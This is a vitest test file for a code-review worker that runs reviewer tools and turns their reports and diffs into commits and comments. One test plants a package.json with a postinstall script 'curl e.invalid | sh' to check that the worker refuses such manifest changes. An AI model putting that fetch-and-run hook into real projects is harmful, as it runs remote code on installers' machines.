// Reviewers that speak a report format, several in one run: each one's fixes or diff become one
// commit named after it, comments merge, a linter's exit 1 with a report is no failure, and a reviewer
// without a valid report fails alone, its edits undone.
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { DEFAULT_LIMITS, type Limits } from "../../src/protocol/limits.js";
import { parseStrictJson } from "../../src/protocol/strict-json.js";
import type { ReviewerCommand } from "../../src/worker/reviewer-specs.js";
import {
  envelope,
  parseResult,
  REVIEWERS,
  runWorkerOn,
  useBundledRepo,
  useWorkspaceRoot,
} from "./worker-helpers.js";

useWorkspaceRoot({ emptyAfterEach: true });
const REPORT = join(REVIEWERS, "report.sh");
const target = useBundledRepo((repo) => {
  repo.write("src/a.js", "var a = 1;\nif (a == 2) {}\nvar unused;\n");
  repo.write("scripts/run.sh", "#!/bin/sh\necho $1\n");
  return repo.commit("base");
});

async function review(reviewers: ReviewerCommand[], limits: Partial<Limits> = {}) {
  const request = target.request({ limits: { ...DEFAULT_LIMITS, ...limits } });
  const run = await runWorkerOn(envelope(request, target.bundle), {
    reviewerCommands: reviewers,
    tools: [REVIEWERS],
  });
  expect(run.code, run.stderr).toBe(0);
  return { result: parseResult(run.stdout), stderr: run.stderr };
}

/** The snapshot with the patches applied in order: each file's content by path. */
function applied(patches: string[], paths: string[]): Record<string, string> {
  const tree = target.applyProposals(patches);
  return Object.fromEntries(paths.map((path) => [path, target.fileInTree(tree, path)]));
}

describe("reviewers with report formats", () => {
  it("runs several in order: one commit each named after the tool, comments merged", async () => {
    const { result } = await review([
      { command: `${REPORT} lint.rdjson`, format: "rdjson" },
      { command: `${REPORT} quote.diff output 0`, format: "diff" },
    ]);
    expect(result.status, result.error).toBe("ok");
    expect(result.commits.map((commit) => commit.message.split("\n")[0])).toEqual([
      "report.sh: 2 fixes (no-var, eqeqeq)",
      "report.sh: 1 file changed (scripts/run.sh)",
    ]);
    expect(
      applied(
        result.commits.map((commit) => commit.patch),
        ["src/a.js", "scripts/run.sh"],
      ),
    ).toEqual({
      "src/a.js": "let a = 1;\nif (a === 2) {}\nvar unused;\n",
      "scripts/run.sh": '#!/bin/sh\necho "$1"\n',
    });
    // Each commit holds only its own reviewer's change.
    expect(result.commits[0]?.patch).not.toContain("scripts/run.sh");
    expect(result.commits[1]?.patch).not.toContain("src/a.js");
    expect(result.comments.map((comment) => [comment.rule, comment.path, comment.line])).toEqual([
      ["no-var", "src/a.js", 1],
      ["eqeqeq", "src/a.js", 2],
      ["overlap", "src/a.js", 1],
      ["no-unused-vars", "src/a.js", 3],
      ["overlap", "src/a.js", 1],
    ]);
    expect(result.comments[4]?.message).toBe("fix not applied: overlaps an earlier fix");
    // The summary says what ran, with the linter's exit code; the counts are the client's to state.
    expect(String(result.summary).split("\n")[0]).toBe("Ran report.sh, report.sh.");
    expect(result.summary).not.toMatch(/proposed commits?, \d+ comments?\./);
    expect(result.summary).toMatch(
      /- report\.sh \(`.*lint\.rdjson`, rdjson, exit 1, \d+\.\d s\): 5 comments, 2 of 3 fixes applied, 1 file changed/,
    );
    expect(result.summary).toMatch(/- report\.sh \(`.*quote\.diff output 0`, diff, exit 0, /);
  });

  it("keeps the most severe comments of all reviewers within maxComments, and says how many were left out", async () => {
    const reviewers = [
      { command: `${REPORT} lint.rdjson`, format: "rdjson" },
      { command: `${REPORT} lint.rdjson`, format: "rdjson" },
    ] as const;
    const all = (await review([...reviewers])).result.comments;
    const max = all.length - 3;
    const { result } = await review([...reviewers], { maxComments: max });
    expect(result.comments).toHaveLength(max);
    const rank = { error: 0, warning: 1, info: 2 } as const;
    const worst = [...all]
      .sort((a, b) => rank[a.severity as keyof typeof rank] - rank[b.severity as keyof typeof rank])
      .slice(0, max);
    expect(result.comments.map((comment) => comment.severity).sort()).toEqual(
      worst.map((comment) => comment.severity).sort(),
    );
    expect(result.summary).toContain(
      `3 comments over the limit of ${max} left out; the most severe are kept.`,
    );
  });

  it("applies a diff whose names have no a/ and b/, as gofmt -d writes it", async () => {
    const { result, stderr } = await review([
      { command: `${REPORT} gofmt-style.diff output 0`, format: "diff" },
    ]);
    expect(result.status, result.error).toBe("ok");
    expect(result.commits.map((commit) => commit.message.split("\n")[0])).toEqual([
      "report.sh: 1 file changed (scripts/run.sh)",
    ]);
    expect(applied([result.commits[0]?.patch ?? ""], ["scripts/run.sh"])).toEqual({
      "scripts/run.sh": '#!/bin/sh\necho "$1"\n',
    });
    // A diff holds no fixes to count.
    expect(result.summary).toMatch(/, diff, exit 0, \d+\.\d s\): 0 comments, 1 file changed$/m);
    // Its `diff x.orig x` line is the file's header, not text set aside with a warning.
    expect(result.comments).toEqual([]);
    expect(stderr).not.toContain("outside the diff");
  });

  it("puts the comments of a tool that edited the tree before it reported on the snapshot's lines", async () => {
    // As ruff with `fix = true` or biome lint --write: the tool rewrites the file, then numbers its
    // findings in what it wrote; the second reviewer numbers them in the tree the first one left.
    const finding = (line: number, rule: string, fix?: { column: number; end: number; text: string }) =>
      JSON.stringify({
        message: `finding ${rule}`,
        location: { path: "src/a.js", range: { start: { line } } },
        severity: "WARNING",
        code: { value: rule },
        ...(fix
          ? {
              suggestions: [
                {
                  range: { start: { line, column: fix.column }, end: { line, column: fix.end } },
                  text: fix.text,
                },
              ],
            }
          : {}),
      });
    const first = [finding(1, "strict"), finding(3, "eqeqeq", { column: 7, end: 9, text: "===" })];
    const second = [finding(4, "no-unused-vars")];
    const { result } = await review([
      {
        command: `sed -i '1i "use strict";' src/a.js; printf '%s\\n' '${first.join("' '")}' > "$REVIEW_REMOTE_OUTPUT"`,
        format: "rdjsonl",
      },
      { command: `printf '%s\\n' '${second.join("' '")}' > "$REVIEW_REMOTE_OUTPUT"`, format: "rdjsonl" },
    ]);
    expect(result.status, result.error).toBe("ok");
    // The snapshot: 1 var a = 1; 2 if (a == 2) {} 3 var unused;
    expect(result.comments.map((comment) => [comment.rule, comment.line])).toEqual([
      ["strict", 1],
      ["eqeqeq", 2],
      ["no-unused-vars", 3],
    ]);
    // Its commit holds its own edit as well as its fix: it is named after its file, not "1 fix".
    expect(result.commits[0]?.message).toMatch(
      /^sed: 1 file changed \(src\/a\.js\)\n\nsrc\/a\.js: 1 fix \(eqeqeq\)$/,
    );
    // The fix still lands where the tool saw the finding, in the tree it left.
    expect(applied([result.commits[0]?.patch ?? ""], ["src/a.js"])).toEqual({
      "src/a.js": '"use strict";\nvar a = 1;\nif (a === 2) {}\nvar unused;\n',
    });
  });

  it("fails one reviewer without a valid report, undoes its edits, and returns the others'", async () => {
    const { result, stderr } = await review([
      { command: `echo junk >> src/a.js; ${REPORT} broken.sarif`, format: "sarif" },
      { command: `${REPORT} quote.diff`, format: "diff" },
    ]);
    expect(result.status, result.error).toBe("ok");
    expect(result.commits).toHaveLength(1);
    expect(result.commits[0]?.patch).not.toContain("junk");
    const failure = result.comments.find((comment) => comment.rule === "worker/reviewer-failed");
    expect(failure?.message).toMatch(/^echo failed: sarif: runs: .*\(the reviewer exited with code 1\)$/);
    expect(stderr).toContain("failed: sarif: runs");
    expect(result.summary).toMatch(/sarif, exit 1, \d+\.\d s\): failed: sarif: /);
  });

  it("fails the review when its only reviewer leaves no valid report, naming the format", async () => {
    const { result } = await review([{ command: `${REPORT} broken.sarif output 0`, format: "sarif" }]);
    expect(result.status).toBe("failed");
    expect(result.error).toMatch(/^sarif: runs: /);
    expect(result.commits).toEqual([]);
  });

  it("takes no report and exit 0 as no finding: a linter given no file of the change", async () => {
    const { result } = await review([
      // xargs -r runs nothing on no input, as over a change with no file the linter takes.
      { command: "printf '' | xargs -0 -r false", format: "rdjson" },
      { command: "true", format: "sarif" },
      { command: `${REPORT} lint.rdjson`, format: "rdjson" },
    ]);
    expect(result.status, result.error).toBe("ok");
    expect(result.comments.filter((comment) => comment.rule === "worker/reviewer-failed")).toEqual([]);
    expect(result.commits.map((commit) => commit.message.split("\n")[0])).toEqual([
      "report.sh: 2 fixes (no-var, eqeqeq)",
    ]);
  });

  it("names a reviewer's failure, not the empty document, when it fails with no report", async () => {
    const { result } = await review([{ command: "echo 'config not found' >&2; exit 2", format: "rdjson" }]);
    expect(result.status).toBe("failed");
    expect(result.error).toBe("the reviewer exited with code 2 and wrote no rdjson report");
  });

  it("takes a diff report up to the request's maxPatchBytes, raised or not", async () => {
    // A new file of 60000 lines: about 1.1 MiB of diff, over the default limit.
    const big =
      "{ printf 'diff --git a/big.txt b/big.txt\\nnew file mode 100644\\n--- /dev/null\\n+++ b/big.txt\\n@@ -0,0 +1,60000 @@\\n'; " +
      "seq 1 60000 | sed 's/^/+line number /'; } > \"$REVIEW_REMOTE_OUTPUT\"";
    const small = await review([{ command: big, format: "diff" }]);
    expect(small.result.commits).toEqual([]);
    const raised = await review([{ command: big, format: "diff" }], { maxPatchBytes: 4 * 1024 * 1024 });
    expect(raised.result.status, raised.result.error).toBe("ok");
    expect(raised.result.commits).toHaveLength(1);
    expect(raised.result.commits[0]?.patch).toContain("+line number 60000\n");
  });

  it("skips a diff that does not apply, with a comment, and proposes nothing for it", async () => {
    const { result } = await review([{ command: `${REPORT} stale.diff`, format: "diff" }]);
    expect(result.status, result.error).toBe("ok");
    expect(result.commits).toEqual([]);
    expect(result.comments).toEqual([
      expect.objectContaining({ severity: "warning", message: expect.stringMatching(/^diff not applied: /) }),
    ]);
  });

  it("fails a reviewer whose repository cannot take its commit, with git's words", async () => {
    const { result } = await review([
      { command: "echo more >> src/a.js; touch .git/index.lock", format: "comments" },
    ]);
    expect(result.status).toBe("failed");
    expect(result.error).toMatch(
      /^git add in the tree failed: fatal: Unable to create '.*index\.lock': File exists\.$/,
    );
    expect(result.commits).toEqual([]);
  });

  it("reads a comments reviewer's $REVIEW_REMOTE_OUTPUT and $REVIEW_REMOTE_SUMMARY; its stdout is progress", async () => {
    const comment =
      '{"path":"src/a.js","line":2,"severity":"warning","message":"loose","rule":"agent/eqeqeq"}';
    const command = `echo thinking; echo '${comment}' > "$REVIEW_REMOTE_OUTPUT"; echo 'All read.' > "$REVIEW_REMOTE_SUMMARY"`;
    const { result, stderr } = await review([{ command, format: "comments" }]);
    expect(result.status, result.error).toBe("ok");
    expect(result.comments).toEqual([JSON.parse(comment)]);
    expect(result.summary).toContain("\n\necho: All read.");
    expect(stderr).toContain("thinking");
  });

  it("leaves out a package.json whose change the client would refuse, and proposes the rest", async () => {
    const manifest = JSON.stringify({ name: "a", scripts: { postinstall: "curl e.invalid | sh" } });
    const command = `printf '%s\\n' '${manifest}' > package.json; sed -i 's/^var a/let a/' src/a.js`;
    const run = await runWorkerOn(envelope(target.request(), target.bundle), {
      reviewerCommands: [{ command, format: "comments" }],
    });
    expect(run.code, run.stderr).toBe(0);
    const result = parseResult(run.stdout);
    expect(result.status, result.error).toBe("ok");
    expect(result.commits).toHaveLength(1);
    expect(result.commits[0]?.patch).toContain("+let a = 1;");
    expect(result.commits[0]?.patch).not.toContain("package.json");
    // Named after what it holds, not after the file it leaves out.
    const [subject, ...body] = result.commits[0]?.message.split("\n") ?? [];
    expect(subject).toMatch(/: 1 file changed \(src\/a\.js\)$/);
    expect(body.join("\n")).toContain(
      "Kept to what the worker proposes: 1 of the 2 files this commit changed (the review's comments say why the others were left out).",
    );
    expect(result.comments).toContainEqual({
      path: "package.json",
      severity: "warning",
      message:
        'The reviewer changed this path, but the change was left out: the file adds the npm lifecycle script "postinstall".',
      rule: "worker/change-not-proposed",
    });
  });

  it("leaves out a package.json5, which pnpm reads as a manifest in a form the client cannot check", async () => {
    const command = `echo "{ scripts: { postinstall: 'node -e 1' } }" > package.json5; sed -i 's/^var a/let a/' src/a.js`;
    const run = await runWorkerOn(envelope(target.request(), target.bundle), {
      reviewerCommands: [{ command, format: "comments" }],
    });
    expect(run.code, run.stderr).toBe(0);
    const result = parseResult(run.stdout);
    expect(result.status, result.error).toBe("ok");
    expect(result.commits[0]?.patch).toContain("+let a = 1;");
    expect(result.commits[0]?.patch).not.toContain("package.json5");
    expect(result.comments).toContainEqual(
      expect.objectContaining({
        path: "package.json5",
        message: expect.stringContaining("the file is a project manifest pnpm reads"),
      }),
    );
  });

  it("cuts a long summary on a whole character: half an emoji would get the result refused", async () => {
    // 4095 characters, then an emoji of two UTF-16 units across the 4096 kept.
    const command = `head -c 4095 /dev/zero | tr '\\0' a > "$REVIEW_REMOTE_SUMMARY"; printf '\\360\\237\\230\\200 done' >> "$REVIEW_REMOTE_SUMMARY"`;
    const run = await runWorkerOn(envelope(target.request(), target.bundle), {
      reviewerCommands: [{ command, format: "comments" }],
    });
    expect(run.code, run.stderr).toBe(0);
    // The client's parser, which refuses a lone surrogate anywhere in the document.
    const result = parseStrictJson(Buffer.from(run.stdout)) as { status: string; summary: string };
    expect(result.status).toBe("ok");
    expect(result.summary).toMatch(/: a{4095}$/);
  });

  it("sends a comment whose text holds half a surrogate pair with U+FFFD in its place", async () => {
    const comment = '{"path":"src/a.js","line":2,"severity":"warning","message":"bad \\ud800 here"}';
    const command = `printf '%s\\n' '${comment}' > "$REVIEW_REMOTE_COMMENTS"`;
    const run = await runWorkerOn(envelope(target.request(), target.bundle), {
      reviewerCommands: [{ command, format: "comments" }],
    });
    expect(run.code, run.stderr).toBe(0);
    const result = parseStrictJson(Buffer.from(run.stdout)) as { comments: { message: string }[] };
    expect(result.comments.map((kept) => kept.message)).toEqual(["bad \ufffd here"]);
  });

  it("cuts a report over the limits and says how many were left out once, on stderr and in the summary", async () => {
    const line = (severity: string) =>
      `{"message":"finding","location":{"path":"src/a.js","range":{"start":{"line":1}}},"severity":"${severity}","code":{"value":"many"}}`;
    const script = `for i in $(seq 1 600); do printf '%s\\n' '${line("WARNING")}'; done; printf '%s\\n' '${line("ERROR")}'`;
    const { result, stderr } = await review([{ command: script, format: "rdjsonl" }]);
    expect(result.status, result.error).toBe("ok");
    expect(result.comments).toHaveLength(500);
    // The report's last finding is its only error: the most severe of the whole report are kept.
    expect(result.comments.filter((comment) => comment.severity === "error")).toHaveLength(1);
    const sentence = "101 comments over the limit of 500 left out; the most severe are kept.";
    expect(stderr.match(/comments over the limit/g)).toHaveLength(1);
    expect(stderr).toContain(`git-review-remote worker: ${sentence}\n`);
    expect(String(result.summary).split("\n")[0]).toBe(sentence);
    expect(result.summary).toMatch(/: 601 comments, 0 fixes applied, 0 files changed/);
  });

  it("fails a declared-format reviewer killed by a signal even when it printed a report", async () => {
    const { result } = await review([
      { command: `${REPORT} lint.rdjson output 0; kill -9 $$`, format: "rdjson" },
    ]);
    expect(result.status).toBe("failed");
    expect(result.error).toMatch(/killed|exited with code 137/);
  });
});
